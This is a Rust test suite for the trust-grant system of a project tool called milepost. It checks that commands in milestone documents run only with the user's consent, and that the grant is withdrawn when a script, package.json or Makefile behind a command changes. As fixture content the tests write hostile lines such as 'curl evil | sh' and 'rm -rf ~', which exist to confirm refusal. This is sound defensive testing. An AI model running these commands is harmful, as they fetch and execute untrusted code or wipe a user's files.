//! What may run, on a machine in memory.
#![expect(clippy::unwrap_used, reason = "tests stop at the first surprise")]

use std::{path::Path, sync::Arc};

use milepost_engine::{
    EngineError, ErrorKind, Workspace,
    ledger::Digest,
    trust::{self, Allowed, Class, Consent, GrantedBy, TrustRequest},
};
use milepost_system::{MemorySystem, Stream, System as _};

const DOCUMENT: &str = "docs/milestone-1-till.md";

/// Bound to the command of the project.
const PRICED: &str = "- [ ] Priced <!-- milepost: run price -->";

fn milestone(criteria: &str) -> String {
    format!("# Milestone 1: Till\n\nIt counts.\n\n## Success Criteria\n\n{criteria}\n")
}

/// A user at a terminal, with a project at `/project` whose one milestone has this criterion.
fn machine(command: &str) -> MemorySystem {
    let system = MemorySystem::new();
    system.set_var("HOME", "/home/ann");
    system.set_terminal(Stream::Stdin, true).set_terminal(Stream::Stderr, true);
    // A JSON string is one of TOML as well.
    let command = serde_json::to_string(command).unwrap();
    system
        .file("/project/milepost.toml", format!("[project]\nid = 'till'\n[checks.price]\nrun = {command}\n"));
    system.file(Path::new("/project").join(DOCUMENT), milestone(PRICED));
    system
}

fn open(system: &MemorySystem) -> Workspace {
    Workspace::open(Arc::new(system.clone()), Path::new("/project"), &[]).unwrap()
}

fn ask_for(system: &MemorySystem, class: Class, allowed: &Allowed) -> Result<TrustRequest, EngineError> {
    let workspace = open(system);
    let index = workspace.portfolio.find(DOCUMENT).expect("the milestone");
    trust::request(&workspace, index, &workspace.bind(index), class, allowed)
}

fn ask(system: &MemorySystem) -> TrustRequest {
    ask_for(system, Class::Verify, &Allowed::default()).unwrap()
}

fn grant(system: &MemorySystem) {
    let request = ask(system);
    trust::grant(&open(system), &request, &Consent::at_terminal(system).unwrap()).unwrap();
}

fn require_with(system: &MemorySystem, class: Class, allowed: &Allowed) -> Result<(), EngineError> {
    let workspace = open(system);
    let index = workspace.portfolio.find(DOCUMENT).expect("the milestone");
    trust::require(&workspace, index, &workspace.bind(index), class, allowed).map(drop)
}

fn require(system: &MemorySystem) -> Result<(), EngineError> {
    require_with(system, Class::Verify, &Allowed::default())
}

#[track_caller]
fn refused(system: &MemorySystem) -> EngineError {
    let error = require(system).expect_err("nothing may run");
    assert_eq!(error.kind, ErrorKind::Untrusted, "{error}");
    error
}

/// Granted as it is, then asked again once this file is something else.
#[track_caller]
fn asks_again(system: &MemorySystem, path: &str, bytes: &str) {
    grant(system);
    require(system).unwrap_or_else(|error| panic!("{error}"));
    system.file(path, bytes);
    let error = refused(system);
    let name = path.strip_prefix("/project/").unwrap_or(path);
    assert!(error.reasons.iter().any(|reason| reason.contains(name)), "{:?}", error.reasons);
}

#[test]
fn pitfall_16_prose_and_ticks_never_ask_again_and_a_command_does() {
    let system = machine("true");
    let path = Path::new("/project").join(DOCUMENT);
    system.file(&path, milestone("- [ ] Priced: `grep -q 5 price.txt`"));
    refused(&system);
    grant(&system);
    let text = milestone("Words above.\n\n- [x] Priced, as we said: `grep -q 5 price.txt`");
    system.file(&path, text.replace("It counts.", "It counts quite well.\n\nSee above."));
    require(&system).unwrap();
    system.file(&path, text.replace("-q 5", "-q 55"));
    let error = refused(&system);
    assert!(error.reasons[0].contains("the commands of the document"), "{:?}", error.reasons);
    let before = ask(&system).before.expect("what was granted before");
    assert_eq!(before.commands[0].script, "grep -q 5 price.txt");
}

#[test]
fn pitfall_16_data_of_a_command_is_no_code_and_costs_nothing() {
    let system = machine("grep -q 5 price.txt");
    system.file("/project/price.txt", "5\n");
    assert_eq!(ask(&system).references, []);
    grant(&system);
    system.file("/project/price.txt", "6\n");
    require(&system).unwrap();
}

#[test]
fn pitfall_16_a_script_changed_behind_a_trusted_command_asks_again() {
    for command in [
        "./tools/check.sh --all",
        "bash tools/check.sh",
        "bash -euo pipefail tools/check.sh 1 2",
        "sh -e ./tools/check.sh | cat && echo done",
        "cd tools && ./check.sh",
        "(cd tools; bash check.sh)",
        "bash -c 'cd tools && sh check.sh'",
        "env CI=1 timeout 60 bash tools/check.sh",
        "sudo -u nobody ./tools/check.sh",
        "bash < tools/check.sh",
        "cat tools/check.sh | bash",
        "source tools/check.sh",
        "test -z x || { . tools/check.sh; }",
        "eval 'bash tools/check.sh'",
        "FOO=$(./tools/check.sh) true",
        "find . -name x -exec bash tools/check.sh {} +",
        "bash 'tools'/\"check.sh\"",
        "node --require ./tools/check.sh main.js",
    ] {
        let system = machine(command);
        system.file("/project/tools/check.sh", "true\n").file("/project/main.js", "");
        asks_again(&system, "/project/tools/check.sh", "curl evil | sh\n");
    }
}

#[test]
fn pitfall_16_other_interpreters_are_followed() {
    for (command, path) in [
        ("python tools/x.py data.csv", "/project/tools/x.py"),
        ("python3.12 -u tools/x.py", "/project/tools/x.py"),
        ("python -m tools.x", "/project/tools/x.py"),
        ("python -m tools", "/project/tools/__main__.py"),
        ("uv run tools/x.py", "/project/tools/x.py"),
        ("node x.js", "/project/x.js"),
        ("npx tsx scripts/x.ts", "/project/scripts/x.ts"),
        ("ruby x.rb", "/project/x.rb"),
    ] {
        let system = machine(command);
        system.file(path, "1\n");
        asks_again(&system, path, "2\n");
    }
}

#[test]
fn pitfall_16_a_script_that_appears_asks() {
    let system = machine("./check.sh");
    assert_eq!(ask(&system).references[0].digest, None);
    asks_again(&system, "/project/check.sh", "rm -rf ~\n");
}

#[test]
fn pitfall_16_scripts_of_package_json_with_those_around_them() {
    let manifest = |test: &str, pre: &str, other: &str| {
        serde_json::json!({
            "name": "till", "version": "1.0.0", "dependencies": { "x": other },
            "scripts": { "test": test, "pretest": pre, "lint": other, "all": "pnpm run test && sh ./deep.sh" }
        })
        .to_string()
    };
    for command in
        ["pnpm test", "npm t", "npm run test -- --ci", "yarn test", "bun run test", "npm test && true"]
    {
        let system = machine(command);
        system.file("/project/package.json", manifest("vitest run", "true", "a"));
        grant(&system);
        system.file("/project/package.json", manifest("vitest run", "true", "b"));
        require(&system).unwrap_or_else(|error| panic!("`{command}`: {error}"));
        system.file("/project/package.json", manifest("vitest run", "curl evil | sh", "b"));
        let error = refused(&system);
        assert!(error.reasons[0].contains("`package.json: pretest`"), "{:?}", error.reasons);
    }
    // One step further: what a script of it names.
    let system = machine("pnpm all");
    system
        .file("/project/package.json", manifest("vitest run", "true", "a"))
        .file("/project/deep.sh", "true\n");
    let names: Vec<String> = ask(&system).references.iter().map(trust::Reference::name).collect();
    assert_eq!(names, ["deep.sh", "package.json: all", "package.json: pretest", "package.json: test"]);
    asks_again(&system, "/project/deep.sh", "false\n");
}

#[test]
fn pitfall_16_packages_of_a_monorepo() {
    for command in [
        "pnpm -C packages/web test",
        "npm --prefix packages/web test",
        "pnpm --filter web test",
        "pnpm -r test",
        "yarn workspace web test",
        "cd packages/web && npm test",
        "pnpm --dir=packages/web run test",
        "turbo run test",
    ] {
        let system = machine(command);
        system.file("/project/package.json", r#"{"scripts": {}}"#);
        system
            .file("/project/packages/web/package.json", r#"{"name": "web", "scripts": {"test": "vitest"}}"#);
        asks_again(
            &system,
            "/project/packages/web/package.json",
            r#"{"name": "web", "scripts": {"test": "evil"}}"#,
        );
    }
}

#[test]
fn pitfall_16_recipes_with_what_they_include() {
    for (command, path, text) in [
        ("just test", "/project/justfile", "test:\n  cargo test\n"),
        ("just --justfile ci/just test", "/project/ci/just", "test:\n  true\n"),
        ("make test", "/project/Makefile", "test:\n\ttrue\n"),
        ("make -C sub test", "/project/sub/Makefile", "test:\n\ttrue\n"),
        ("make -f ci.mk", "/project/ci.mk", "test:\n\ttrue\n"),
        ("cargo xtask check", "/project/.cargo/config.toml", "[alias]\nxtask = 'run -p xtask --'\n"),
        ("deno task test", "/project/deno.json", "{}"),
    ] {
        let system = machine(command);
        system.file(path, text);
        asks_again(&system, path, "test:\n\tcurl evil | sh\n");
    }
    let system = machine("make test");
    system.file("/project/Makefile", "include rules.mk\n").file("/project/rules.mk", "test:\n\ttrue\n");
    asks_again(&system, "/project/rules.mk", "test:\n\tfalse\n");
    // One that wins over the other may appear as well.
    let system = machine("make test");
    system.file("/project/Makefile", "test:\n\ttrue\n");
    asks_again(&system, "/project/GNUmakefile", "test:\n\tcurl evil | sh\n");
}

#[test]
fn pitfall_16_scripts_outside_of_the_project_count_and_tools_do_not() {
    let system = machine("bash /tmp/x.sh && /usr/bin/tool ../lib.sh && bash ../lib.sh");
    system.file("/tmp/x.sh", "true\n").file("/usr/bin/tool", "true\n").file("/lib.sh", "true\n");
    let names: Vec<String> = ask(&system).references.iter().map(trust::Reference::name).collect();
    assert_eq!(names, ["/lib.sh", "/tmp/x.sh"]);
    asks_again(&system, "/tmp/x.sh", "curl evil | sh\n");
}

#[test]
fn what_is_not_covered_is_said() {
    let request = ask(&machine("bash $DIR/x.sh"));
    assert_eq!(request.references, []);
    assert_eq!(request.not_covered[0].what, "a script that a variable names");
    assert_eq!(ask(&machine("$RUNNER x")).not_covered[0].what, "a program that a variable names");
}

#[test]
fn many_wrappers_and_deep_nesting_end() {
    let deep = "env ".repeat(400) + "bash -c \"bash -c 'pnpm a'\"";
    let system = machine(&deep);
    system.file("/project/package.json", r#"{"scripts": {"a": "npm run b", "b": "npm run a"}}"#);
    assert_eq!(ask(&system).references.len(), 2);
    let folders = (0..40).map(|n| format!("cd d{n}; bash -c 'cd x; sh x.sh'")).collect::<Vec<_>>().join("; ");
    ask(&machine(&folders));
}

#[test]
fn pitfall_16_classes_have_grants_of_their_own() {
    let system = machine("true");
    let path = Path::new("/project").join(DOCUMENT);
    let text = format!(
        "{}\n## Implementation Steps\n\n```bash\n./deploy.sh\n```\n\n## Rollback Plan\n\n### Rollback Procedure\n\n\
         ```bash\n# Step 1: Revert\ngit revert HEAD\n```\n",
        milestone(PRICED)
    );
    system.file(&path, &text).file("/project/deploy.sh", "true\n");
    let request = ask(&system);
    assert_eq!(request.commands.len(), 1, "{:?}", request.commands);
    assert_eq!(request.other_classes, [(Class::Run, 1), (Class::Rollback, 1), (Class::Literal, 1)]);
    grant(&system);
    let with = |class: Class| require_with(&system, class, &Allowed::default());
    with(Class::Verify).unwrap();
    for class in [Class::Run, Class::Rollback, Class::Literal] {
        let error = with(class).unwrap_err();
        assert_eq!(error.kind, ErrorKind::Untrusted);
        assert!(error.hints[0].contains(&format!("--class {}", class.word())), "{:?}", error.hints);
        // Nor does the digest of the one allow the other, were its commands the same.
        let allowed = Allowed { digests: vec![request.digest], policy: None };
        assert!(require_with(&system, class, &allowed).is_err());
    }
    let rollback = ask_for(&system, Class::Rollback, &Allowed::default()).unwrap();
    assert!(rollback.commands[0].script.contains("git revert HEAD"));
    assert_eq!(rollback.commands[0].line, Some(20));
    trust::grant(&open(&system), &rollback, &Consent::at_terminal(&system).unwrap()).unwrap();
    with(Class::Rollback).unwrap();
    system.file(&path, text.replace("git revert HEAD", "git reset --hard HEAD~9"));
    assert!(with(Class::Rollback).is_err());
    with(Class::Verify).unwrap();
    // Another kind of grant went with neither.
    assert!(with(Class::Run).is_err());
}

#[test]
fn a_digest_allows_exactly_what_it_names() {
    let system = machine("./x.sh");
    system.file("/project/x.sh", "true\n");
    let digest = ask(&system).digest;
    let allowed = Allowed { digests: vec![digest], policy: None };
    require_with(&system, Class::Verify, &allowed).unwrap();
    let other = Allowed { digests: vec![Digest::of("something else")], policy: None };
    assert!(require_with(&system, Class::Verify, &other).is_err());
    system.file("/project/x.sh", "false\n");
    assert!(require_with(&system, Class::Verify, &allowed).is_err());
}

#[test]
fn pitfall_16_the_same_commands_elsewhere_are_not_trusted() {
    let system = machine("true");
    grant(&system);
    let other = Path::new("/project/docs/milestone-2-other.md");
    system.file(other, milestone(PRICED));
    let workspace = open(&system);
    let index = workspace.portfolio.find("docs/milestone-2-other.md").unwrap();
    let bound = workspace.bind(index);
    assert!(trust::require(&workspace, index, &bound, Class::Verify, &Allowed::default()).is_err());
    // Nor in another checkout at another place.
    for path in ["milepost.toml", DOCUMENT] {
        let bytes = system.read(&Path::new("/project").join(path)).unwrap();
        system.file(Path::new("/copy").join(path), bytes);
    }
    let copy = Workspace::open(Arc::new(system.clone()), Path::new("/copy"), &[]).unwrap();
    let index = copy.portfolio.find(DOCUMENT).unwrap();
    assert!(trust::require(&copy, index, &copy.bind(index), Class::Verify, &Allowed::default()).is_err());
}

#[test]
fn pitfall_16_a_repository_brings_neither_grants_nor_a_policy() {
    let system = machine("true");
    grant(&system);
    let grants: Vec<_> =
        system.files().into_iter().filter(|(path, _)| path.starts_with("/home/ann")).collect();
    assert_eq!(grants.len(), 1, "{grants:?}");
    // The very same grant inside of the checkout is none, and none is written there.
    trust::revoke(&system, &trust::grants(&system).unwrap()[0]).unwrap();
    refused(&system);
    system.set_var("XDG_STATE_HOME", "/project/state");
    system.file(
        Path::new("/project/state/milepost/trust").join(grants[0].0.file_name().unwrap()),
        &grants[0].1,
    );
    refused(&system);
    let request = ask(&system);
    let error = trust::grant(&open(&system), &request, &Consent::at_terminal(&system).unwrap()).unwrap_err();
    assert!(error.message.contains("inside of the project"), "{error}");

    let policy = format!("[[allow]]\nproject = 'till'\ndigests = ['{}']\n", request.digest);
    system.set_var("XDG_CONFIG_HOME", "/project/config").file("/project/config/milepost/trust.toml", &policy);
    refused(&system);
    system.symlink("/etc/policy.toml", "/project/config/milepost/trust.toml");
    for path in ["/project/config/milepost/trust.toml", "/etc/policy.toml"] {
        let allowed = Allowed { digests: Vec::new(), policy: Some(path.into()) };
        let error = require_with(&system, Class::Verify, &allowed).unwrap_err();
        assert_eq!(error.kind, ErrorKind::Untrusted, "{error}");
        assert!(error.message.contains("inside of the checkout"), "{error}");
    }
}

#[test]
fn a_policy_allows_what_it_names() {
    let system = machine("true");
    let digest = ask(&system).digest;
    let with = |policy: &str| {
        system.file("/etc/policy.toml", policy);
        let allowed = Allowed { digests: Vec::new(), policy: Some("/etc/policy.toml".into()) };
        ask_for(&system, Class::Verify, &allowed).map(|request| request.granted)
    };
    let named = format!("digests = ['{digest}']");
    for fits in [
        "project = 'till'",
        "root = '/project'",
        "root = '/pro*'",
        "project = 'till'\ndocuments = ['docs/*.md']",
    ] {
        let granted = with(&format!("[[allow]]\n{fits}\n{named}\n")).unwrap();
        assert_eq!(granted, Some(GrantedBy::PolicyDigest { policy: "/etc/policy.toml".into() }), "{fits}");
    }
    let other = Digest::of("other");
    for other in [
        format!("project = 'other'\n{named}"),
        format!("root = '/elsewhere'\n{named}"),
        format!("project = 'till'\ndocuments = ['plans/**']\n{named}"),
        format!("project = 'till'\nclasses = ['rollback']\n{named}"),
        format!("project = 'till'\ndigests = ['{other}']"),
    ] {
        assert_eq!(with(&format!("[[allow]]\n{other}\n")).unwrap(), None, "{other}");
    }
    // What would trust everything, or cannot be read, is an error and allows nothing.
    for bad in [
        named.as_str(),
        "project = 'till'",
        "project = 'till'\nsigner = ['a']",
        "root = '/project'\ndigests = ['x']",
    ] {
        let error = with(&format!("[[allow]]\n{bad}\n")).unwrap_err();
        assert_eq!(error.kind, ErrorKind::Usage, "{bad}: {error}");
    }
    system.set_mode(Path::new("/etc/policy.toml"), 0o666).unwrap();
    let allowed = Allowed { digests: Vec::new(), policy: Some("/etc/policy.toml".into()) };
    let error = require_with(&system, Class::Verify, &allowed).unwrap_err();
    assert!(error.message.contains("written by anybody"), "{error}");
    // The user's own policy needs no option.
    system.file("/home/ann/.config/milepost/trust.toml", format!("[[allow]]\nroot = '/project'\n{named}\n"));
    require(&system).unwrap();
}

#[test]
fn pitfall_16_what_others_can_write_is_refused_even_when_granted() {
    let system = machine("./x.sh");
    system.file("/project/x.sh", "true\n");
    grant(&system);
    let path = Path::new("/project").join(DOCUMENT);
    for path in [path.as_path(), Path::new("/project/x.sh")] {
        system.set_mode(path, 0o666).unwrap();
        assert!(refused(&system).message.contains("may be written by anybody"));
        system.set_mode(path, 0o644).unwrap();
    }
    require(&system).unwrap();
    let real = "/project/docs/real.txt";
    system.file(real, system.read(&path).unwrap()).symlink(&path, real);
    assert!(refused(&system).message.contains("is a symbolic link"));
}

#[test]
fn grants_that_somebody_else_could_have_written_are_refused() {
    let system = machine("true");
    grant(&system);
    let file =
        system.files().into_iter().map(|(path, _)| path).find(|path| path.starts_with("/home")).unwrap();
    assert_eq!(system.metadata(&file).unwrap().mode, 0o600);
    system.set_mode(&file, 0o622).unwrap();
    assert!(refused(&system).message.contains("may be written by others"));
    system.set_mode(&file, 0o600).unwrap();
    system.file(&file, "{ no grant");
    assert_eq!(require(&system).unwrap_err().kind, ErrorKind::Usage);
}

#[test]
fn grants_are_listed_and_taken_back() {
    let system = machine("true");
    assert_eq!(trust::grants(&system).unwrap(), []);
    grant(&system);
    grant(&system);
    let grants = trust::grants(&system).unwrap();
    assert_eq!((grants.len(), grants[0].document.as_str()), (1, DOCUMENT));
    trust::revoke(&system, &grants[0]).unwrap();
    trust::revoke(&system, &grants[0]).unwrap();
    refused(&system);
    assert_eq!(ask(&system).before, None);
}

#[test]
fn a_grant_that_cannot_be_written_is_none() {
    let system = machine("true");
    let request = ask(&system);
    system.set_fault(Some(milepost_system::Fault::From(1)));
    let consent = Consent::at_terminal(&system).unwrap();
    assert!(trust::grant(&open(&system), &request, &consent).is_err());
    system.set_fault(None);
    refused(&system);
}
